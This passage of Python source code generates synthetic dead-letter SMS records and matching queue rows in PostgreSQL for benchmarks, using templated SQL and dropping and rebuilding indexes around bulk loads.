                                    'or STOP to opt out.', name, place, 8 + g % 10)
                 when 1 then format('%s, your order #%s has shipped. Track it at https://t.example.com/%s',
                                    name, num, num)
                 when 2 then format('Reminder: your payment of $%s is due on Friday. Reply HELP for help.', num)
                 when 3 then format('Your verification code is %s. It expires in 10 minutes.', num)
                 else format('Hey %s! Spring sale: 20%% off everything this weekend at %s. Reply STOP to '
                             'opt out.', name, place)
               end as body,
               case when r_misc < 0.4 then 1 when r_misc < 0.7 then 2 when r_misc < 0.9 then 3 else 5 end
                   as attempts,
               r_state
        from (
            select g, random() as r_age, random() as r_code, random() as r_state, random() as r_phone,
                   random() as r_misc,
                   (array[{names}])[1 + (g / 3) % {nnames}] as name,
                   (array[{places}])[1 + (g / 11) % {nplaces}] as place,
                   100 + (g::bigint * 7919 % 99900)::int as num
            from generate_series(1, {n}) as g
        ) r
    ) s
    ) p
) t
returning id, status, requeue_ref, requeued_at, workflow, payload
)
{queue_insert}
"""

_GENERATE_QUEUE_SQL = """
insert into {queue} (id, campaign_id, to_number, body, payload, status, attempts, enqueued_at, available_at,
                     source, dlq_message_id)
select split_part(requeue_ref, ':', 2)::bigint, coalesce(workflow, 'unknown'),
       coalesce(payload->>'To', '+10000000000'), coalesce(payload->>'Body', ''), coalesce(payload, '{{}}'),
       'sent', 1, requeued_at, requeued_at, 'dlq-requeue', id
from ins where status = 'requeued'
"""

# Below this many rows, dropping and rebuilding the secondary indexes is not worth it.
_REBUILD_INDEXES_FROM = 50_000


def _ident(name: str) -> sql.Identifier:
    return sql.Identifier(*name.split("."))


def generate_messages(conn: psycopg.Connection[Any], n: int, *, table: str = DLQ_TABLE,
                      queue_table: str | None = QUEUE_TABLE, now: datetime | None = None,
                      spread: timedelta = timedelta(hours=48), waiting_share: float = 0.85,
                      seed_value: float = 0.42, account_sid: str = "AC" + "de" * 16,
                      analyze: bool = True) -> GenerateReport:
    """Append `n` generated dead letters to `table` (shaped like the demo's) in one statement.

    For benchmarks and scale tests: a million rows in about 20 s. `waiting_share` of them wait;
    of the rest, 70 % were re-queued (never a never-requeue code, never a malformed one) and the
    others discarded. With `queue_table`, every generated re-queued row gets its queue row
    (linked by `dlq_message_id`, named by `requeue_ref` like the seed's), so "the queue holds
    exactly the re-queued ones" stays true. For large `n` the table's secondary indexes (not
    the constraint ones) are dropped and rebuilt around the load: the table is locked
    exclusively meanwhile, so this is for benchmark databases, not a live demo. `analyze` runs
    VACUUM ANALYZE afterwards (visibility map and statistics, so plans and index-only counts
    are right at once). `conn` must not be inside a transaction; the caller owns it.
    """
    if n < 0:
        raise ValueError("n must be >= 0")
    if not 0.0 <= waiting_share <= 1.0:
        raise ValueError("waiting_share must be between 0 and 1")
    started = time.perf_counter()
    now = now or datetime.now(UTC)
    table_id = _ident(table)
    weighted = [c for c in ERROR_CODES for _ in range(ERROR_CODES[c][0])]

    def arr(values: Sequence[Any]) -> sql.Composable:
        return sql.SQL(", ").join(sql.Literal(v) for v in values)

    queue_insert: sql.Composable = sql.SQL("select count(*) from ins where status = 'requeued'")
    queue_seq: str | None = None
    if queue_table is not None:
        queue_insert = sql.SQL(_GENERATE_QUEUE_SQL).format(queue=_ident(queue_table))
    with conn.transaction():
        cur = conn.cursor()
        if queue_table is not None:
            seq_row = cur.execute("select pg_get_serial_sequence(%s, 'id')", [queue_table]).fetchone()
            queue_seq = seq_row[0] if seq_row else None
            if queue_seq is None:
                raise ValueError(f"{queue_table} has no identity/serial id column")
        query = sql.SQL(_GENERATE_SQL).format(
            table=table_id, account=sql.Literal(account_sid), service=sql.Literal("MG" + "0f" * 16),
            waiting_share=sql.Literal(waiting_share), never=sql.Literal(sorted(NEVER_REQUEUE)),
            now=sql.Literal(now), spread=sql.Literal(f"{spread.total_seconds():.0f} seconds"),
            salt=sql.Literal(int(seed_value * 1_000_000_007)), codes=arr(weighted),
            code_texts=arr([ERROR_CODES[c][1] for c in weighted]), ncodes=sql.Literal(len(weighted)),
            endpoints=arr(ENDPOINTS), nendpoints=sql.Literal(len(ENDPOINTS)), workflows=arr(WORKFLOWS),
            nworkflows=sql.Literal(len(WORKFLOWS)), names=arr(NAMES), nnames=sql.Literal(len(NAMES)),
            places=arr(PLACES), nplaces=sql.Literal(len(PLACES)), n=sql.Literal(n),
            queue_seq=sql.Literal(queue_seq),
            queue_name=sql.Literal((queue_table or "").split(".")[-1] + ":"), queue_insert=queue_insert)
        row = cur.execute(sql.SQL("select coalesce(max(id), 0) from {}").format(table_id)).fetchone()
        after = int(row[0]) if row else 0
        rebuild: list[str] = []
        if n >= _REBUILD_INDEXES_FROM:
            # Secondary indexes that back no constraint: rebuilt in bulk after the load (much
            # faster than n random insertions each).
            rebuild = [str(r[0]) for r in cur.execute(
                "select pg_get_indexdef(i.indexrelid) from pg_index i "
                "where i.indrelid = %s::regclass and not exists "
                "(select 1 from pg_constraint c where c.conindid = i.indexrelid)", [table]).fetchall()]
            for r in cur.execute(
                    "select i.indexrelid::regclass::text from pg_index i where i.indrelid = %s::regclass "
                    "and not exists (select 1 from pg_constraint c where c.conindid = i.indexrelid)",
                    [table]).fetchall():
                cur.execute(sql.SQL("drop index {}").format(sql.SQL(r[0])))
        cur.execute("select setseed(%s)", [seed_value])
        cur.execute("set local maintenance_work_mem = '256MB'")
        cur.execute(query)
        queue_rows = cur.rowcount if queue_table is not None else 0
        for definition in rebuild:
            cur.execute(definition)  # pg_get_indexdef output: already a quoted, complete statement
        statuses = {str(s): int(c) for s, c in cur.execute(
            sql.SQL("select status, count(*) from {} where id > {} group by 1").format(
                table_id, sql.Literal(after))).fetchall()}
    if analyze:
        previous = conn.autocommit
        conn.autocommit = True
        try:
            conn.execute(sql.SQL("vacuum (analyze) {}").format(table_id))
            if queue_table is not None:
                conn.execute(sql.SQL("vacuum (analyze) {}").format(_ident(queue_table)))
        finally:
            conn.autocommit = previous
    return GenerateReport(table=table, messages=sum(statuses.values()), statuses=statuses,
                          queue_rows=queue_rows, elapsed_s=time.perf_counter() - started)
